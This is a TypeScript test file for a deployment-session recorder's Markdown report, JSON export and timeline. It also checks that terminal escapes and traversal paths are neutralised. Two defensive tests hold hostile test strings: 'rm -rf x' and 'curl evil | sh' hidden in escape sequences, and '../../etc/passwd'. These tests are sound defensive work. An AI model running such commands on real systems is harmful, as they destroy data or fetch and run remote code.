import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, test } from 'vitest';
import { checkScript } from '../../../src/record/checks/check-script.ts';
import { type ExportInput, readExportInput } from '../../../src/record/exports/export-input.ts';
import { exportFormats } from '../../../src/record/exports/exports.ts';
import { readSession } from '../../../src/record/read-session.ts';
import { fenced, inline } from '../../../src/record/report/markdown.ts';
import { timeline } from '../../../src/record/report/show.ts';
import { visible, withoutEscapes } from '../../../src/record/visible.ts';
import type { NewEvent } from '../../../src/session/events.ts';
import { outcomeOf } from '../../../src/walk/outcome.ts';
import { temporaryFolder } from '../../support/folder.ts';
import { needs } from '../../support/programs.ts';
import { requested } from '../sample-events.ts';
import { storeBlob, writeJournal } from '../sample-journal.ts';
import { planText } from '../sample-plan.ts';
import { exportInput, sampleSession } from '../sample-session.ts';

const keygen = needs('ssh-keygen', 'openssh-client');
let input: ExportInput;

beforeAll(async () => {
  if (keygen.missing) return;
  input = exportInput((await sampleSession()).folder);
});

/** The report of the sample with other events. */
async function reported(change: (events: NewEvent[]) => NewEvent[]): Promise<string> {
  return exportFormats.report.write(exportInput((await sampleSession({ change, unsigned: true })).folder)) as string;
}

function section(said: string | Iterable<Uint8Array>, title: string): string {
  return String(said).split(`\n## ${title}\n`)[1]?.split('\n## ')[0] ?? '';
}

describe.skipIf(keygen.missing)(`the report${keygen.note}`, () => {
  const report = () => exportFormats.report.write(input);

  test('begins with the checklist and what came out', () => {
    expect(report()).toMatch(/^# Ship the \\\*parcel\\\* service\n/);
    expect(report()).toContain('| The walk itself | COMPLETE WITH 1 DEVIATION |');
  });

  test('lists each step with its status, when it was last touched and which person did it', () => {
    expect(report()).toContain('| 1 | Look around | attested | 2026-01-01 00:00:10 | ada |');
    expect(report()).toContain('| 2 | Ship it | overridden | 2026-01-01 00:00:16 | ada |');
  });

  test('shows each command as it ran, with target, environment, exit, duration and the end of its output', () => {
    expect(report()).toContain(
      '00:00:04 · make test · staging, target here · in /srv/parcel on build-1 · confirmed by a key · exit 2 after 1.2 s',
    );
    expect(report()).toContain('```bash\nmake ship\n```');
    expect(report()).toContain('```\ncompiling\n1 test failed\n```');
    expect(report()).toContain('confirmed by typing "production 2"');
  });

  test('says who and when by the words of the checklist, and that nobody was identified by them', () => {
    expect(report()).toContain(
      'The checklist says who and when: Release \\*manager\\*, T-1h. No identity was checked against it.',
    );
  });

  test('shows what a shell printed in which somebody looked around, and what had come of a run that was lost', async () => {
    const folder = temporaryFolder();
    const [seen, half] = [await storeBlob(folder, '5 orders\n'), await storeBlob(folder, 'row 1 of 9\n')];
    const ship = { step: 's2', item: 's2.ship' };
    const { folder: record } = await sampleSession({
      folder,
      open: true,
      change: (events) => [
        ...events,
        { type: 'shell.opened', data: { shell: 'w1', ...ship, cwd: '/srv', host: 'web-1' } },
        { type: 'shell.closed', data: { shell: 'w1', seconds: 34, typed: 'sqlite3 shop.db', output: seen } },
        requested('run-9', { ...ship, text: 'make ship' }, 2),
        { type: 'run.lost', data: { run: 'run-9', ...ship, why: 'The host went away.', output: half } },
      ],
    });
    const said = exportFormats.report.write(exportInput(record)).toString();
    const work = said.slice(said.indexOf('## What was done'), said.indexOf('## Timeline'));
    expect(work).toContain('shell left after 34 s, typed: sqlite3 shop.db');
    expect(work).toContain('```\n5 orders\n```');
    expect(work).toContain(`output of 9 bytes, root ${seen.root}`);
    expect(work).toContain('```\nrow 1 of 9\n```');
    expect(work).toContain(`output of 11 bytes, root ${half.root}, as far as it had come`);
  });

  test('shows the answers of queries as tables, and no value breaks them', () => {
    expect(report()).toContain('| owner | n |\n| --- | --- |\n| ada \\| eve | 3 |\n| NULL | 4 |');
  });

  test('names deviations and failed attempts', () => {
    expect(report()).toContain(
      '- step 2: stop condition overridden (STOP if anything is red.): the red light is the power lamp',
    );
    expect(report()).toContain('- step 1, attempt 1: exit 2: make test');
  });

  test('says how each stop was answered', () => {
    expect(report()).toContain(
      '- step 2, line 18: "anything is red" (STOP if anything is red.): OVERRIDDEN: the red light is the power lamp; ada, 2026-01-01 00:00:16',
    );
  });

  test('says the sentence of a stop once, with the first of its conditions', () => {
    const conditions = [
      { line: 18, text: 'anything is red' },
      { line: 19, text: 'a count differs' },
    ];
    const plan = { ...input.plan, gates: input.plan.gates.map((gate) => ({ ...gate, conditions })) };
    const said = exportFormats.report.write({ ...input, plan });
    expect(said).toContain('- step 2, line 18: "anything is red" (STOP if anything is red.): OVERRIDDEN');
    expect(said).toContain('- step 2, line 19: "a count differs" (of the same stop): OVERRIDDEN');
  });

  test('lists the stops that somebody said are tripped, and how the walk went on', async () => {
    const tripped: NewEvent = {
      type: 'condition.answered',
      data: { step: 's2', gate: 'g18', answer: 'true', condition: 'anything is red', evidence: [] },
    };
    const said = await reported((events) => events.toSpliced(-3, 0, tripped));
    expect(section(said, 'Stops that somebody said are tripped')).toMatch(
      /^- step 2, line 18: "anything is red" by ada at 2026-01-01 00:00:\d\d, overridden by ada at 2026-01-01 00:00:\d\d: the red light/m,
    );
    expect(section(report(), 'Stops that somebody said are tripped')).toContain('None.');
  });

  test('says beside a step how many of its items were skipped', async () => {
    const skipped: NewEvent = {
      type: 'step.skipped',
      data: { step: 's1', item: 's1.told', reason: 'nobody is in the channel' },
    };
    const said = await reported((events) => events.map((event) => (event.type === 'check.answered' ? skipped : event)));
    expect(said).toMatch(/\| 1 \| Look around \| \w+, 1 of 3 items skipped \|/);
  });

  test('says whether checklist and repository had changes that were not committed, and what no record can show', async () => {
    expect(report()).toContain('| c0ffee, and the file had no changes that were not committed |');
    expect(report()).toContain('| c0ffee on main, with nothing uncommitted |');
    expect(section(report(), 'What no record can show')).toContain('- A patched deploy-assist that recorded');
    expect(section(report(), 'What no record can show')).toContain('deploy-assist verify says what else');
  });

  test('names the authority that was to stamp the signature, and says that no stamp is there', async () => {
    const said = await reported((events) =>
      events.map((event) =>
        event.type === 'session.opened'
          ? { ...event, data: { ...event.data, timeStamping: 'tsa.example.org/tsr' } }
          : event,
      ),
    );
    expect(said).toContain('| Time stamp | NONE is beside the record, though tsa.example.org/tsr was to give one |');
    expect(report()).not.toContain('Time stamp');
  });

  test('holds the signed text, the signature and the exact commands to check them', () => {
    expect(report()).toContain('deploy-assist sign-off 1\nsession: sample-1');
    expect(report()).toContain('-----BEGIN SSH SIGNATURE-----');
    expect(report()).toContain(`\n${checkScript('ada@example.org')}\n`);
  });
});

describe.skipIf(keygen.missing)(`the JSON export${keygen.note}`, () => {
  test('has its documented keys, the runs with the size of their output, and no verdict', () => {
    const value = JSON.parse(exportFormats.json.write(input));
    expect(Object.keys(value)).toEqual([
      'format',
      'session',
      'opened',
      'closed',
      'journal',
      'plan',
      'outcome',
      'notAsExpected',
      'choices',
      'stops',
      'runs',
      'events',
      'unknown',
      'signOff',
      'redactions',
      'reviews',
    ]);
    expect(value).toMatchObject({
      format: 'deploy-assist/export@1',
      session: 'sample-1',
      closed: { result: 'Success' },
      plan: {
        steps: [
          { number: 1, status: 'attested' },
          { number: 2, status: 'overridden' },
        ],
      },
      outcome: { failedAttempts: ['step 1, attempt 1: exit 2: make test'] },
      runs: [{ run: 'run-1', result: { status: 'ended', exit: { code: 2 }, output: { bytes: 33 } } }, {}, {}, {}],
    });
    expect(value.events).toHaveLength(18);
  });
});

describe.skipIf(keygen.missing)(`the timeline${keygen.note}`, () => {
  test('tells what happened line by line, with time, place and person', () => {
    const lines = timeline(input);
    expect(lines[0]).toBe('2026-01-01 (UTC)');
    expect(lines).toContain('00:00:05  step 1: exit 2 after 1.2 s; 33 bytes of output');
    expect(lines).toContain('00:00:08  step 1: done: The team was told (in the channel)  [ada]');
    expect(lines).toContain('00:00:13  step 2: confirmed by typing "production 2" in 2.1 s (2 attempts)  [ada]');
  });

  test('shows events of a newer version as sentences', () => {
    const folder = temporaryFolder();
    writeFileSync(join(folder, 'plan.json'), planText);
    const strange = { type: 'moon.observed', data: {} } as unknown as NewEvent;
    writeJournal(folder, [strange], 'sample-9');
    const read = readSession(folder);
    expect(read.ok && timeline(read.value)).toEqual([
      'not shown: line 1: this version does not know events of type moon.observed',
    ]);
  });
});

test('what a program printed cannot drive the terminal of whoever reads it', () => {
  const line = withoutEscapes('a\u001b[31mred\u001b[0m\u001b]0;title\u0007b\u0008\u202ec\u009b');
  expect(visible(line)).toBe('aredb␈<U+202E>c<U+009B>');
});

test('no part of a command is hidden in what is printed of it', () => {
  const command = 'echo 1 \u001bP; rm -rf x ; \u001b\\ a\u200bb\u001b]0;curl evil | sh\u0007';
  expect(visible(command)).toBe('echo 1 ␛P; rm -rf x ; ␛\\ a<U+200B>b␛]0;curl evil | sh␇');
});

test.skipIf(keygen.missing)(`what was written over is not in the tail of an output${keygen.note}`, async () => {
  const { folder } = input;
  const { root } = await storeBlob(folder, 'kept\n10 %\r100 %\r\nwrong \u0008ly\n');
  const read = readExportInput(folder, outcomeOf);
  expect(read.ok && read.value.tail(root)).toEqual(['kept', '100 %', 'wrongly']);
  expect(input.tail('../../etc/passwd')).toEqual([]);
});

test('text becomes Markdown that shows that very text', () => {
  expect(inline('a *b* [c](d) `e` <f>\n| g')).toBe('a \\*b\\* \\[c\\](d) \\`e\\` \\<f\\> \\| g');
  expect(fenced('echo ```x```')).toEqual(['````', 'echo ```x```', '````']);
});
